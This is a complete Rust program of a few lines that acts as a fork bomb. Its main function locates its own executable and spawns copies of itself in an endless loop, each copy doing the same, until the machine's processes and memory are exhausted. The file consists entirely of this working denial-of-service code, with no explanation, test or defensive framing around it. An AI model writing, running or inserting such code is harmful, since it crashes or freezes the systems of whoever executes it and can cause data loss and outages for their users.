use std::process::Command;

fn main() {
    let this = std::env::current_exe().unwrap();
    loop {
        let _ = Command::new(&this).spawn();
    }
}
